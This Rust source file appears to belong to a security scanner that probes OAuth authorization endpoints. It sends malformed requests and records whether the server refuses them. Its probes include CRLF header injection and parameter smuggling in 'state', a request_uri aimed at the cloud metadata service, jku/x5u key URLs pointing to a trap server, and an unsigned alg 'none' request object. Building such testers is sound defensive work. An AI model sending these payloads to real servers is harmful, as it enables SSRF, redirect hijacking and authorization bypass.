//! What else an authorization request may not say: it has to be answered with an error, and not put before the person.

use std::time::{Duration, Instant};

use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD as BASE64URL};
use jsonwebtoken::Algorithm as Jwa;
use serde_json::{Value, json};

use super::{
    client::{CHALLENGE, Client, Query, VERIFIER},
    found::{Finding, Found, Stop},
    metadata::STRANGER,
    rows::{Area, Needs, Probe, Rows},
    server::Server,
    trap::Trap,
    visit::Visit,
};
use crate::{attack::NotBuilt, run::shown};

const PKCE: &str = "RFC 9700 §2.1.1; RFC 7636 §4.4.1";
const METHOD: &str = "RFC 9700 §2.1.1; RFC 7636 §7.2";
const FRONT: &str = "RFC 9700 §2.1.2; OAuth 2.1: no token in a URL";
const ONCE: &str = "RFC 6749 §3.1: no parameter more than once";
const STATE: &str = "RFC 6749 §4.1.2.1; CWE-113";
const OBJECT: &str = "RFC 9101 §10.4.1; CWE-918";

/// An answer that takes so much longer than others has waited for somebody.
pub(super) const SUSPICIOUS: Duration = Duration::from_secs(2);

pub(super) fn rows() -> Vec<Probe> {
    let (client, native) = (Needs::Client, Needs::NativeClient);
    Rows::of(Area::Authorization)
        .breach(("authorize-unknown-client", "a client that nobody knows", "RFC 6749 §4.1.2.1"), client, |s| {
            Box::pin(asked(s, |q| q.with("client_id", "mcp-attack-nobody")))
        })
        .breach(("pkce-missing", "no code_challenge", PKCE), native, |s| {
            Box::pin(asked(s, |q| q.without("code_challenge").without("code_challenge_method")))
        })
        .breach(("pkce-empty", "an empty code_challenge", PKCE), native, |s| {
            Box::pin(asked(s, |q| q.with("code_challenge", "")))
        })
        .lax(("pkce-plain", "code_challenge_method=plain", METHOD), native, |s| {
            Box::pin(asked(s, |q| q.with("code_challenge", VERIFIER).with("code_challenge_method", "plain")))
        })
        .lax(("pkce-no-method", "no code_challenge_method, which means plain", METHOD), native, |s| {
            Box::pin(asked(s, |q| q.without("code_challenge_method")))
        })
        .lax(("pkce-unknown-method", "a method that nobody knows", METHOD), native, |s| {
            Box::pin(asked(s, |q| q.with("code_challenge_method", "S512")))
        })
        .lax(("pkce-short", "a code_challenge that is no SHA-256", "RFC 7636 §4.2"), native, |s| {
            Box::pin(asked(s, |q| q.with("code_challenge", "short")))
        })
        .breach(("response-token", "response_type=token", FRONT), native, |s| {
            Box::pin(asked(s, |q| q.with("response_type", "token")))
        })
        .breach(("response-code-token", "response_type=code token", FRONT), native, |s| {
            Box::pin(asked(s, |q| q.with("response_type", "code token")))
        })
        .lax(("response-id-token", "response_type=id_token", FRONT), native, |s| {
            Box::pin(asked(s, |q| q.with("response_type", "id_token").and("nonce", "mcp-attack")))
        })
        .lax(("response-missing", "no response_type", "RFC 6749 §3.1.1"), native, |s| {
            Box::pin(asked(s, |q| q.without("response_type")))
        })
        .lax(("twice-client-id", "two clients", ONCE), native, |s| {
            Box::pin(asked(s, |q| q.and("client_id", "mcp-attack-nobody")))
        })
        .lax(("twice-redirect-uri", "two addresses, the client's first", ONCE), native, |s| {
            Box::pin(asked(s, |q| q.and("redirect_uri", &format!("https://{STRANGER}/callback"))))
        })
        .lax(("twice-redirect-uri-last", "two addresses, the client's last", ONCE), native, |s| {
            Box::pin(asked(s, |q| q.after("redirect_uri", &format!("https://{STRANGER}/callback"))))
        })
        .lax(("twice-scope", "two lists of scopes", ONCE), native, |s| {
            let scope = s.scope().unwrap_or("mcp:read").to_owned();
            Box::pin(async move { once_more(s, "scope", &scope).await })
        })
        .lax(("twice-challenge", "two code_challenges", ONCE), native, |s| {
            Box::pin(once_more(s, "code_challenge", CHALLENGE))
        })
        .lax(("unknown-scope", "a scope that there is not", "RFC 6749 §4.1.2.1: invalid_scope"), native, |s| {
            Box::pin(asked(s, |q| q.with("scope", "mcp-attack:nonsense")))
        })
        .lax(("unknown-resource", "a resource that there is not", "RFC 8707 §2: invalid_target"), native, |s| {
            Box::pin(asked(s, |q| q.with("resource", &format!("https://{STRANGER}/mcp"))))
        })
        .breach(("state-crlf", "a line break and a header in state", STATE), native, |s| {
            Box::pin(echoed(s, "x\r\nX-Mcp-Attack: 1\r\n"))
        })
        .breach(("state-parameters", "more parameters in state", "RFC 6749 §4.1.2.1; CWE-88"), native, |s| {
            Box::pin(echoed(s, "x&code=mcp-attack&iss=https://stranger.example#x"))
        })
        .breach(("state-url", "an address in state", "RFC 6749 §4.1.2.1; CWE-601"), native, |s| {
            Box::pin(echoed(s, "https://stranger.example/"))
        })
        .breach(("request-uri", "request_uri: somebody else's server", OBJECT), native, |s| {
            Box::pin(fetched(s, |q, origin| q.and("request_uri", &format!("{origin}/request.jwt"))))
        })
        .breach(("request-uri-link-local", "request_uri: the cloud's metadata service", OBJECT), native, |s| {
            Box::pin(link_local(s))
        })
        .breach(("request-jku", "a signed request that tells where its key is", OBJECT), native, |s| {
            Box::pin(async { signed_elsewhere(s).await })
        })
        .breach(
            ("request-unsigned", "an unsigned request with another address in it", "RFC 9101 §10.2; RFC 9700 §4.1"),
            native,
            |s| Box::pin(unsigned(s)),
        )
        .done()
}

async fn asked(server: &Server, bend: fn(Query) -> Query) -> Finding {
    let client = server.native()?;
    let visit = server.ask(&bend(server.query(client))).await?;
    server.not_on(&visit)
}

async fn once_more(server: &Server, name: &str, value: &str) -> Finding {
    let query = server.query(server.native()?).with(name, value).and(name, value);
    let visit = server.ask(&query).await?;
    server.not_on(&visit)
}

/// `state` comes back in an answer that goes where it went without it, and says nothing more. A server may change what
/// is no `state` (RFC 6749 appendix A.5).
async fn echoed(server: &Server, state: &str) -> Finding {
    let client = server.native()?;
    let visit = server.ask(&server.query(client).with("state", state).with("response_type", "mcp-attack")).await?;
    let last = visit.last().clone();
    if visit.answers().iter().any(|answer| answer.header("x-mcp-attack").is_some()) {
        return Ok(Found::let_in("it wrote the header").with(last));
    }
    let Some(location) = visit.location() else { return Ok(Found::refused(visit.said()).with(last)) };
    let all = visit.parameters();
    let of = |name: &str| all.iter().filter(|(other, _)| other == name).map(|(_, v)| v.as_str()).collect::<Vec<_>>();
    let bent = !server.is_told(client, &visit) || !of("code").is_empty() || of("iss").len() > 1;
    Ok(Found::let_in_if(bent, format!("{} to {}", last.status, shown(location))).with(last))
}

/// A request that names a URL; nobody has to follow it, not even a server that takes such requests.
async fn fetched(server: &Server, bend: fn(Query, &str) -> Query) -> Finding {
    let trap = Trap::set().await?;
    let query = bend(server.query(server.native()?), &format!("http://127.0.0.1:{}", trap.port));
    contact(server, &query, &trap).await
}

async fn contact(server: &Server, query: &Query, trap: &Trap) -> Finding {
    let visit = server.ask(query).await;
    if trap.was_called().await {
        return Ok(Found::let_in("asked the attacker's server"));
    }
    let visit = visit?;
    Ok(Found::refused(visit.said()).with(visit.last().clone()))
}

/// Whether anybody waits for a server that this machine does not have.
async fn link_local(server: &Server) -> Finding {
    let good = server.query(server.native()?);
    let (_, usual) = timed(server, &good).await;
    let (visit, took) = timed(server, &good.and("request_uri", "http://169.254.169.254/latest/meta-data/")).await;
    if took > usual + SUSPICIOUS {
        return Ok(Found::let_in(format!("took {:.1} s, as somebody who waits for an answer", took.as_secs_f32())));
    }
    let visit = visit?;
    let told = ["ami-id", "instance-id", "computeMetadata"].into_iter().find(|word| visit.last().body.contains(word));
    Ok(Found::complaint(told.map(|word| format!("it shows {word}")), visit.said()).with(visit.last().clone()))
}

pub(super) async fn timed(server: &Server, query: &Query) -> (Result<Visit, Stop>, Duration) {
    let begun = Instant::now();
    (server.ask(query).await, begun.elapsed())
}

/// A request object (RFC 9101): the parameters, and `change` over them.
fn request_object(server: &Server, client: &Client, header: &Value, change: Value) -> String {
    let mut claims = json!({
        "iss": client.id, "aud": server.issuer.text, "client_id": client.id, "response_type": "code",
        "redirect_uri": client.redirect_uri, "code_challenge": CHALLENGE, "code_challenge_method": "S256",
    });
    if let (Some(claims), Value::Object(change)) = (claims.as_object_mut(), change) {
        claims.extend(change);
    }
    format!("{}.{}", BASE64URL.encode(header.to_string()), BASE64URL.encode(claims.to_string()))
}

async fn signed_elsewhere(server: &Server) -> Finding {
    let client = server.native()?;
    let trap = Trap::set().await?;
    let origin = format!("http://127.0.0.1:{}", trap.port);
    let header = json!({
        "alg": "RS256", "typ": "oauth-authz-req+jwt", "kid": "x",
        "jku": format!("{origin}/jwks.json"), "x5u": format!("{origin}/chain.pem"),
    });
    let object = request_object(server, client, &header, json!({ "jwks_uri": format!("{origin}/jwks.json") }));
    let signature = server.attacker.rsa().sign(&object, Jwa::RS256);
    let signature = signature.map_err(|error: NotBuilt| Stop::not_run(error.to_string()))?;
    contact(server, &server.query(client).and("request", &format!("{object}.{signature}")), &trap).await
}

async fn unsigned(server: &Server) -> Finding {
    let client = server.native()?;
    let elsewhere = format!("https://{STRANGER}/callback");
    let change = json!({ "redirect_uri": elsewhere, "response_type": "mcp-attack" });
    let object = request_object(server, client, &json!({ "alg": "none" }), change);
    let query = server.query(client).with("response_type", "mcp-attack").and("request", &format!("{object}."));
    let visit = server.ask(&query).await?;
    let believed = visit.location().is_some_and(|location| location.starts_with(&elsewhere));
    Ok(Found::let_in_if(believed, visit.said()).with(visit.last().clone()))
}
